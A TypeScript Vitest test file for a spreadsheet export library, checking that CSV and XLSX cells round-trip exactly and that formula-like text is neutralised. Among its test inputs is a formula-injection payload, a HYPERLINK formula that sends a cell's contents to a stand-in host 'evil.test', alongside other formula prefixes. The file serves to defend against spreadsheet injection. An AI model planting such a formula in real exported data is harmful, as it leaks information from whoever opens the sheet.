import { describe, expect, it } from "vitest";
import { neutralised, neutralisedThroughout, restored } from "@/lib/sheets/formula.mjs";
import { readSheet } from "@/lib/sheets/read-sheet.mjs";
import { type Column, writeCsv, writeXlsx } from "@/lib/sheets/write-sheet.mjs";
import { unpackedPart, zipDirectory } from "@/lib/sheets/zip-directory.mjs";

const COLUMNS: Column[] = [
  { title: "Title", kind: "text" },
  { title: "Description", kind: "text" },
];
const TEXTS = [
  '=HYPERLINK("https://evil.test?"&A1,"x")',
  "+1",
  "-1",
  "@SUM(A1)",
  "\tx",
  "'=1",
  "''=1",
  "'plain",
  "'",
  "- a list\n- of things",
  "  =1",
  "harmless\n=1+1",
  "harmless\n\n =1+1",
  "\n=1",
  "  \n=1",
  "a;=1+1;b",
  "a;  @x;'=1;''-1;'plain",
  "a\t+1\t'+1",
  "＝1+1",
  "a=b",
  'quotes " and ; and , in it',
  "<b>&amp;</b>",
  "Zürich, 東京, 🚢",
  " spaces around ",
  "1,234",
  "007",
  "TRUE",
  "2026-01-02",
];

describe.each([
  ["csv", async (rows: string[][]) => writeCsv(COLUMNS, rows)],
  ["xlsx", (rows: string[][]) => writeXlsx("Requests", COLUMNS, rows)],
] as const)("what was written as %s", (extension, write) => {
  it.each(TEXTS)("is read back to the letter: %j", async (text) => {
    const { rows } = await readSheet(
      `x.${extension}`,
      await write([
        ["A", text],
        [text, "B"],
      ]),
    );
    expect(rows.map(({ cells }) => cells)).toEqual([
      ["A", text],
      [text, "B"],
    ]);
  });
});

describe("formulas", () => {
  it.each(TEXTS)("no cell begins like one, and it can be taken back: %j", (text) => {
    expect(neutralised(text)).not.toMatch(/^\s*[=+\-@＝＋－＠\t\r]/);
    expect(restored(neutralised(text))).toBe(text);
    expect(restored(neutralisedThroughout(text))).toBe(text);
  });

  it("stand in the CSV file as text", () => {
    expect(writeCsv(COLUMNS, [["=1+1", "-2"]]).toString()).toContain("'=1+1,'-2");
  });

  it("no formula stands in the workbook", async () => {
    const bytes = await writeXlsx("Requests", COLUMNS, [["=1+1", "@x"]]);
    const parts = await Promise.all(zipDirectory(bytes, 100).map((part) => unpackedPart(bytes, part)));
    expect(parts.join("")).toContain("'=1+1");
    expect(parts.join("")).not.toMatch(/<f[\s>]/);
  });
});
